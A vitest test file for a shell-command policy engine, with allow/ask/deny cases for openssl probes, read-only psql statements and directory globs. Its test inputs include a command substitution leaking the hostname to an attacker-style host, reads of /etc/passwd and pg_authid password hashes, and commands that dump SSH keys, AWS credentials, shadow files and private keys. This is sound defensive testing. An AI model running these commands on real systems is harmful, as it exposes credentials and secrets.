import { beforeAll, describe, expect, it } from 'vitest';
import type { Decision } from '../types';
import { pgStatementReadOnly } from './client-forms';
import { loadDefaultPolicy } from './load';
import type { ShellPolicy } from './shell-policy';

let policy: ShellPolicy;
beforeAll(async () => {
  policy = await loadDefaultPolicy();
});
const decide = (command: string): Decision => policy.evaluate({ command, host: 'localhost', requester: 'test' }).decision;

describe('client-forms: openssl s_client probes', () => {
  it.each(['openssl s_client -connect example.com:443 -servername example.com </dev/null', 'openssl s_client -connect example.com:443 -showcerts <<< Q'])('%s -> allow', (c) => expect(decide(c)).toBe('allow'));
  it.each([
    'openssl s_client -connect example.com:443',
    'openssl s_client -connect example.com:443 </tmp/data',
    'openssl s_client -connect example.com:443 </dev/null 0<&3',
    'openssl s_client -connect example.com:443 3</dev/null',
    'openssl s_client -connect "$(hostname).evil.example:443" </dev/null',
    'openssl s_client -connect example.com:443 -cert /tmp/c.pem </dev/null',
  ])('%s -> ask', (c) => expect(decide(c)).toBe('ask'));
});

describe('client-forms: psql read-only statements', () => {
  it.each(['SELECT count(*) FROM users', 'SHOW max_connections', 'EXPLAIN SELECT * FROM t WHERE id = 5', '\\dt', "SELECT pg_size_pretty(pg_database_size('app'))"])('%s is read-only', (s) => expect(pgStatementReadOnly(s)).toBe(true));
  it.each([
    "SELECT pg_read_file('/etc/passwd')", 'SELECT * INTO t2 FROM t', 'SELECT * FROM t FOR UPDATE', 'EXPLAIN ANALYZE DELETE FROM t', 'SELECT 1; DROP TABLE t',
    'SELECT $$x$$', 'SELECT 1 /* x */', 'SELECT "lo_import"(1)', 'SELECT * FROM pg_authid', 'SELECT 1 +++ 2', 'SELECT now()::text', 'WITH d AS (DELETE FROM t RETURNING *) SELECT 1', 'COPY t TO STDOUT',
    "SELECT 'a' || x FROM t", "SELECT count(*) FROM t WHERE x = 'unterminated",
  ])('%s is not', (s) => expect(pgStatementReadOnly(s)).toBe(false));
  it('denies reading password catalogs and asks for the rest', () => {
    expect(decide("psql -c 'SELECT rolpassword FROM pg_authid'")).toBe('deny');
    expect(decide("psql -c 'DELETE FROM users'")).toBe('ask');
    expect(decide("psql -P pager=on -c 'SELECT 1'")).toBe('ask');
    expect(decide("psql -c 'SELECT count(*) FROM users'")).toBe('allow');
  });
});

describe('globs over a whole directory', () => {
  it.each(['grep -i error /var/log/nginx/*', 'cat /etc/nginx/sites-enabled/*', 'for f in /etc/nginx/sites-enabled/*; do cat "$f"; done'])('%s -> ask (matches only known on the host)', (c) => expect(decide(c)).toBe('ask'));
  it.each(['cat /root/.ssh/*', 'cat /home/deploy/.aws/*', 'cat /etc/sha*', 'cat /etc/nginx/*.key', 'cat /etc/ssl/private/*', 'find / -name id_rsa -exec cat {} \\;'])('%s -> deny', (c) => expect(decide(c)).toBe('deny'));
});
